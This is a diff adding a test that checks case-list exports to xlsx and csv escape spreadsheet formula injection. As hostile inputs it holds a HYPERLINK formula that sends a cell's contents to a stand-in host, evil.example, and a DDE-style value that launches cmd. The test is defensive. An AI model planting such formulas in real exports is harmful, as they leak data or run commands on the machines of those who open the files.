@@ -340,3 +340,36 @@ def test_flight_map_in_english(small_district_store, tmp_path):
     assert re.search(r'"Cases: [A-Za-z ]+ \(\d+\)"', page)
     assert re.search(r'"Detections: [A-Za-z ]+"', page)
     assert page.count('"_id": "') <= n_cases
+
+
+def test_text_a_spreadsheet_would_run_is_exported_as_text(small_district_store, tmp_path):
+    """An order number or assignee typed as a formula is never a live formula in xlsx or csv."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from pipeline.report.lists import export_cases
+    src, settings, _ = small_district_store
+    with open_store(src, settings.store.crs) as store:
+        cases = store.cases().head(2)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+    cases = cases.assign(order_no=hostile, assignee=["+1+1", "-2+3"])
+    xlsx = export_cases(cases, tmp_path / "cases.xlsx", "xlsx", rules=load_rules(settings.rules_path))
+    ws = load_workbook(xlsx).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + hostile[0] in texts and "'+1+1" in texts and "'-2+3" in texts
+    path = export_cases(cases, tmp_path / "cases.csv", "csv", rules=load_rules(settings.rules_path))
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        values = [v for row in list(csv.reader(fh))[1:] for v in row]
+    assert not [v for v in values if v[:1] in ("=", "+", "@") or (v[:1] == "-" and not _number(v))]
+    assert "'" + hostile[1] in values
+
+
+def _number(v: str) -> bool:
+    try:
+        float(v)
+        return True
+    except ValueError:
+        return False
